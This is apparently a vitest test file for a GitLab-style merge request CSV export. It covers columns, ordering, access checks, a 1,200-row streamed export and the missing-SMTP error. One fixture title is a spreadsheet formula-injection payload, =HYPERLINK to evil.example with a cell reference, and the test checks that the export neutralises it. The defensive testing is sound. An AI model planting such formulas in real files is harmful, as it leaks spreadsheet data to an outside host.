import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { AccessLevel } from '../../policy/access-levels';
import { openMergeRequest } from '../../test/api-client';
import { csvDownloads, itAnswersAsItsList } from '../../test/csv-downloads';
import { useRestTestApp } from '../../test/rest-test-app';

/** "Export as CSV" of the project and group merge request lists (issue 32): GitLab's columns, the list's rules. */
const t = useRestTestApp({
  prefix: 'mrcsv_',
  users: ['owner', 'dev', 'outsider'],
  groups: {
    acme: { path: 'mrcsvacme', members: { owner: AccessLevel.OWNER, dev: AccessLevel.DEVELOPER } },
    open: { path: 'mrcsvopen', visibility: 20, members: { owner: AccessLevel.OWNER } },
  },
  projects: {
    web: { path: 'web', group: 'acme' },
    api: { path: 'api', group: 'acme' },
    bulk: { path: 'bulk', group: 'acme' },
    pub: { path: 'pub', group: 'open', visibility: 20 },
  },
});
const { api, tok, uid, pid, gid } = t;
const { exportRows, expectDatedAttachment, expectListOrder, expectNotFound } = csvDownloads(t);

/** GitLab's `MergeRequests::ExportCsvService#header_to_value_hash`, in its order. */
const GITLAB_COLUMNS = [
  'Title',
  'Description',
  'MR IID',
  'URL',
  'State',
  'Source Branch',
  'Target Branch',
  'Source Project ID',
  'Target Project ID',
  'Author',
  'Author Username',
  'Assignees',
  'Assignee Usernames',
  'Approvers',
  'Approver Usernames',
  'Merged User',
  'Merged Username',
  'Milestone ID',
  'Created At (UTC)',
  'Updated At (UTC)',
];

let branch = 0;
async function newMr(projectId: number, fields: { title: string } & Record<string, unknown>) {
  branch++;
  return openMergeRequest(api, projectId, 'owner', { source_branch: `feature-${branch}`, ...fields });
}

let milestoneId = 0;
let mergedIid = 0;

beforeAll(async () => {
  const milestone = await api('POST', `/projects/${pid.web}/milestones`, 'owner', { title: 'v1' });
  expect(milestone.statusCode, milestone.body).toBe(201);
  milestoneId = milestone.json().id;
  const alpha = await newMr(pid.web, {
    title: 'Alpha, "quoted"',
    description: 'Line one\nline two',
    labels: 'feature,bug',
    assignee_ids: [uid.owner, uid.dev],
    milestone_id: milestoneId,
  });
  await t.db
    .insertInto('approvals')
    .values([
      { merge_request_id: alpha.id, user_id: uid.dev as number },
      { merge_request_id: alpha.id, user_id: uid.owner as number },
    ])
    .execute();
  await newMr(pid.web, { title: '=HYPERLINK("http://evil.example/?"&A1)', description: '@SUM(A1)', labels: 'bug' });
  const merged = await newMr(pid.web, { title: 'Merged one', labels: 'bug' });
  mergedIid = merged.iid;
  await sql`UPDATE merge_requests SET state = 'merged', merged_at = now(), merge_user_id = ${uid.dev}
    WHERE id = ${merged.id}`.execute(t.db);
  await newMr(pid.web, { title: 'Draft: not yet' });
  await newMr(pid.api, { title: 'In the other project', labels: 'bug' });
  await newMr(pid.pub, { title: 'Public change' });
});

describe('GET /<project>/-/merge_requests.csv', () => {
  itAnswersAsItsList(t, {
    csvPath: '/mrcsvacme/web/-/merge_requests.csv',
    restPath: () => `/projects/${pid.web}/merge_requests`,
    attachmentName: 'web-merge_requests',
    columns: GITLAB_COLUMNS,
    queries: [
      '',
      '?state=all',
      '?state=opened&labels=bug&order_by=title&sort=asc',
      '?state=all&order_by=merged_at&sort=desc',
      '?state=all&order_by=updated_at&sort=asc&not[labels]=feature',
      '?state=all&draft=no',
      '?search=Alpha&in=title',
    ],
    column: 'MR IID',
    field: 'iid',
    missingPath: '/mrcsvacme/nothing/-/merge_requests.csv',
    publicDownload: { path: '/mrcsvopen/pub/-/merge_requests.csv', titles: ['Public change'] },
    badFilter: 'order_by',
  });

  it("writes each merge request's cells as GitLab does", async () => {
    const rows = await exportRows('/mrcsvacme/web/-/merge_requests.csv?state=all', 'owner');
    const alpha = rows.find((r) => r.Title === 'Alpha, "quoted"');
    expect(alpha).toMatchObject({
      Description: 'Line one\nline two',
      'MR IID': '1',
      State: 'opened',
      'Source Branch': 'feature-1',
      'Target Branch': 'main',
      'Source Project ID': String(pid.web),
      'Target Project ID': String(pid.web),
      'Author Username': 'mrcsv_owner',
      'Merged User': '',
      'Merged Username': '',
      'Milestone ID': String(milestoneId),
    });
    expect(alpha?.['Assignee Usernames']?.split(', ').sort()).toEqual(['mrcsv_dev', 'mrcsv_owner']);
    expect(alpha?.['Approver Usernames']?.split(', ').sort()).toEqual(['mrcsv_dev', 'mrcsv_owner']);
    expect(alpha?.URL).toMatch(/\/mrcsvacme\/web\/-\/merge_requests\/1$/);
    expect(alpha?.['Created At (UTC)']).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC$/);
    const merged = rows.find((r) => r['MR IID'] === String(mergedIid));
    expect(merged).toMatchObject({
      State: 'merged',
      'Merged Username': 'mrcsv_dev',
      Approvers: '',
      'Milestone ID': '',
    });
  });

  it('prefixes cells a spreadsheet would run as formulas with a quote', async () => {
    const rows = await exportRows('/mrcsvacme/web/-/merge_requests.csv', 'owner');
    const formula = rows.find((r) => r.Title?.includes('HYPERLINK'));
    expect(formula?.Title).toBe(`'=HYPERLINK("http://evil.example/?"&A1)`);
    expect(formula?.Description).toBe("'@SUM(A1)");
  });
});

describe('GET /groups/<group>/-/merge_requests.csv', () => {
  it("lists the group's merge requests as GET /groups/:id/merge_requests does, in its order", async () => {
    await expectDatedAttachment(
      '/groups/mrcsvacme/-/merge_requests.csv',
      'owner',
      'mrcsvacme-merge_requests',
      GITLAB_COLUMNS,
    );
    const query = '?labels=bug&order_by=title&sort=asc';
    const csvPath = `/groups/mrcsvacme/-/merge_requests.csv${query}`;
    const rows = await expectListOrder({
      restPath: `/groups/${gid.acme}/merge_requests${query}`,
      csvPath,
      who: 'owner',
      column: 'URL',
      field: 'web_url',
    });
    expect(rows.some((r) => r.URL?.includes('/mrcsvacme/api/-/merge_requests/'))).toBe(true);
  });

  it('is 404 for a group the caller may not see', async () => {
    await expectNotFound('/groups/mrcsvacme/-/merge_requests.csv', ['outsider', undefined]);
  });
});

describe('a long export', () => {
  const COUNT = 1_200;
  beforeAll(async () => {
    await sql`INSERT INTO merge_requests (project_id, iid, title, author_id, source_branch, target_branch)
      SELECT ${pid.bulk}::int, 100000 + g, 'Bulk change ' || g, ${uid.owner}::int, 'b' || g, 'main'
      FROM generate_series(1, ${COUNT}::int) g`.execute(t.db);
  });

  it('streams every row in keyset batches across equal sort keys, in the REST pages’ order', async () => {
    const rows = await exportRows('/mrcsvacme/bulk/-/merge_requests.csv?order_by=title&sort=asc', 'owner');
    expect(rows).toHaveLength(COUNT);
    const listed: number[] = [];
    for (let page = 1; page <= COUNT / 100; page++) {
      const res = await api(
        'GET',
        `/projects/${pid.bulk}/merge_requests?order_by=title&sort=asc&per_page=100&page=${page}`,
        'owner',
      );
      listed.push(...(res.json() as Array<{ iid: number }>).map((m) => m.iid));
    }
    expect(rows.map((r) => Number(r['MR IID']))).toEqual(listed);
    const byCreated = await exportRows('/mrcsvacme/bulk/-/merge_requests.csv', 'owner');
    expect(new Set(byCreated.map((r) => r['MR IID'])).size).toBe(COUNT);
  });
});

describe('POST /<project>/-/merge_requests/export_csv without SMTP', () => {
  it('is a 422 saying email is not configured, and queues nothing', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/mrcsvacme/web/-/merge_requests/export_csv',
      headers: { 'private-token': tok.owner ?? '', accept: 'application/json' },
    });
    expect(res.statusCode, res.body).toBe(422);
    expect(res.json().error).toContain('Email is not configured on this instance');
    const queued = await t.db.selectFrom('notification_emails').select('id').execute();
    expect(queued).toEqual([]);
  });
});
